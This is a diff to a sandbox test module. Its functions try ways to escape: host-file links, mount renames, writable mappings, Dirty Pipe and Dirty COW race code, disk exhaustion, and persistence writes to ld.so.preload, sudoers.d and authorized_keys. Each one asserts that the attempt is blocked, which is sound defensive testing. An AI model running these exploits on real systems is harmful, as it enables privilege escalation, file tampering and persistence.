@@ -1,9 +1,15 @@
 """Files of the host, of other runs and of the sandbox itself."""
 
 import ctypes
+import fcntl
+import mmap
 import os
 import stat
+import sys
+import threading
+import time
 import zipfile
+from collections.abc import Callable
 from pathlib import Path
 
 from doors import BAIT, call, closed, never, program, read, system, write
@@ -130,11 +136,11 @@ def follow_links_of_the_snapshot() -> None:
 
 @program
 def unpack_a_zip_bomb() -> None:
-    """Unpack ten files of 100 MB from some KB."""
+    """Unpack three files of 50 MB from some KB."""
     with zipfile.ZipFile("/work/bomb.zip", "w", zipfile.ZIP_DEFLATED) as bomb:
-        for number in range(10):
+        for number in range(3):
             with bomb.open(f"{number}.bin", "w") as member:
-                for _ in range(100):
+                for _ in range(50):
                     member.write(bytes(1 << 20))
     with zipfile.ZipFile("/work/bomb.zip") as bomb:
         closed("unpack", lambda: bomb.extractall("/work/unpacked"))
@@ -158,3 +164,144 @@ def mount_api() -> None:
     closed("fsopen", lambda: system(430, ctypes.c_char_p(b"tmpfs"), 0))
     closed("open_tree", lambda: system(428, -100, ctypes.c_char_p(b"/"), 1))
     closed("mount_setattr", lambda: system(442, -100, ctypes.c_char_p(b"/"), 0, None, 0))
+    for name, number in {"move_mount": 429, "fsconfig": 431, "fsmount": 432, "fspick": 433}.items():
+        closed(name, lambda number=number: system(number, -100, ctypes.c_char_p(b"/"), 0, 0, 0))
+
+
+@program
+def link_files_of_the_host() -> None:
+    """Make a second name for a file that lies on another mount."""
+    for path in ("/etc/passwd", "/tree/doors.py", "/inputs/bait.json", "/results"):
+        closed(f"link {path}", lambda path=path: os.link(path, "/work/second"))
+    with open("/etc/passwd") as file:
+        source = f"/proc/self/fd/{file.fileno()}".encode()
+        closed("link a descriptor", lambda: call("linkat", -100, source, -100, b"/work/third", 0x400))
+
+
+@program
+def rename_mounts() -> None:
+    """Move what is mounted, or put something else in its place."""
+    os.makedirs("/work/other", exist_ok=True)
+    for path in ("/tree", "/work", "/inputs", "/results", "/proc", "/dev"):
+        closed(f"rename {path}", lambda path=path: os.rename(path, "/moved"))
+        # RENAME_EXCHANGE.
+        closed(f"exchange {path}", lambda path=path: call("renameat2", -100, path.encode(), -100, b"/work/other", 2))
+        closed(f"remove {path}", lambda path=path: os.rmdir(path))
+
+
+@program
+def write_through_a_mapping() -> None:
+    for path in ("/inputs/bait.json", "/etc/passwd", sys.executable):
+        closed(f"map {path}", lambda path=path: os.open(path, os.O_RDWR))
+        with open(path, "rb") as file:
+            descriptor = file.fileno()
+            closed(f"map {path} shared", lambda fd=descriptor: mmap.mmap(fd, 1, mmap.MAP_SHARED, mmap.PROT_WRITE))
+
+
+def _rewrite(path: str, race: Callable[[int], None]) -> None:
+    """Report an escape when a race changes the file, which is open to read only."""
+    before = Path(path).read_bytes()
+    descriptor = os.open(path, os.O_RDONLY)
+    try:
+        race(descriptor)
+    except OSError as error:
+        print(f"held: the race over {path} ({error.strerror})", flush=True)
+    os.close(descriptor)
+    never(f"{path} is changed", Path(path).read_bytes() != before)
+
+
+@program
+def dirty_pipe() -> None:
+    """Write into a page of a file that lies in a pipe (CVE-2022-0847)."""
+
+    def race(descriptor: int) -> None:
+        outgoing, incoming = os.pipe()
+        size = fcntl.fcntl(incoming, 1032)
+        for _ in range(size // 4096):
+            os.write(incoming, bytes(4096))
+        for _ in range(size // 4096):
+            os.read(outgoing, 4096)
+        os.splice(descriptor, incoming, 1, offset_src=0)
+        os.write(incoming, b"of the sandbox")
+
+    for path in ("/inputs/bait.json", "/etc/passwd"):
+        _rewrite(path, race)
+
+
+@program
+def dirty_copy() -> None:
+    """Write into a private copy while the kernel drops it (CVE-2016-5195)."""
+
+    def race(descriptor: int) -> None:
+        pages = mmap.mmap(descriptor, 1, mmap.MAP_PRIVATE, mmap.PROT_READ)
+        deadline = time.monotonic() + 0.3
+
+        def drop() -> None:
+            while time.monotonic() < deadline:
+                pages.madvise(mmap.MADV_DONTNEED)
+
+        dropping = threading.Thread(target=drop)
+        dropping.start()
+        maps = Path("/proc/self/maps").read_text().splitlines()
+        address = int(next(line for line in maps if path in line).split("-")[0], 16)
+        with open("/proc/self/mem", "r+b", buffering=0) as memory:
+            while time.monotonic() < deadline:
+                memory.seek(address)
+                memory.write(b"x")
+        dropping.join()
+
+    for path in ("/inputs/bait.json", "/etc/passwd"):
+        _rewrite(path, race)
+
+
+@program
+def reserve_the_disk() -> None:
+    """Take the host's disk without writing: by holes, and by reserving blocks."""
+    for folder in ("/work", "/tmp", "/dev/shm"):
+        Path(folder, "large").write_bytes(b"")
+        with open(f"{folder}/large", "r+b") as file:
+            fd = file.fileno()
+            closed(f"a hole in {folder}", lambda fd=fd: os.ftruncate(fd, 1 << 50))
+            closed(f"blocks of {folder}", lambda fd=fd: os.posix_fallocate(fd, 0, 1 << 42))
+
+
+@program
+def attributes_of_files() -> None:
+    """Leave files that the host cannot remove, and widen what is mounted."""
+    Path("/work/mine").write_bytes(b"")
+    with open("/work/mine") as file:
+        flags = ctypes.create_string_buffer((0x10).to_bytes(8, "little"))
+        closed("make a file immutable", lambda: call("ioctl", file.fileno(), ctypes.c_ulong(0x40086602), flags))
+    for path in ("/inputs/bait.json", "/etc/passwd"):
+        closed(f"attribute of {path}", lambda path=path: os.setxattr(path, "user.x", b"x"))
+        closed(f"list of {path}", lambda path=path: os.setxattr(path, "system.posix_acl_access", bytes(28)))
+        closed(f"mode of {path}", lambda path=path: os.chmod(path, 0o777))
+        closed(f"times of {path}", lambda path=path: os.utime(path, (0, 0)))
+
+
+@program
+def watch_files_of_the_host() -> None:
+    closed("fanotify", lambda: call("fanotify_init", 0, 0))
+    closed("watch the secret", lambda: call("inotify_add_watch", call("inotify_init"), BAIT["secret"].encode(), 1))
+    closed("quotas", lambda: call("quotactl", 0x80000700, b"/dev/vda", 0, ctypes.create_string_buffer(100)))
+
+
+@program
+def settle_in_configuration() -> None:
+    """Write what later programs of the host read when they start."""
+    home = BAIT["home"]
+    for path in ("/etc/ld.so.preload", "/etc/profile.d/x.sh", "/etc/gitconfig", "/etc/sudoers.d/x", "/etc/pip.conf"):
+        closed(f"write {path}", write(path))
+    for name in (".bashrc", ".gitconfig", ".ssh/authorized_keys", ".config/pip/pip.conf", ".docker/config.json"):
+        closed(f"write {name}", lambda name=name: os.open(f"{home}/{name}", os.O_WRONLY))
+
+
+@program
+def devices_that_lead_out() -> None:
+    names = ("userfaultfd", "vhost-vsock", "vhost-net", "vsock", "dri/card0", "dri/renderD128", "nvidia0", "nvidiactl")
+    names += ("mapper/control", "btrfs-control", "autofs", "uinput", "ppp", "cpu/0/msr", "hpet", "rtc0", "watchdog")
+    for name in names:
+        closed(f"open /dev/{name}", lambda name=name: os.open(f"/dev/{name}", os.O_RDWR))
+    for number in range(8):
+        closed(f"terminal {number}", lambda number=number: os.open(f"/dev/pts/{number}", os.O_RDWR | os.O_NOCTTY))
+        closed(f"console {number}", lambda number=number: os.open(f"/dev/tty{number}", os.O_RDWR | os.O_NOCTTY))
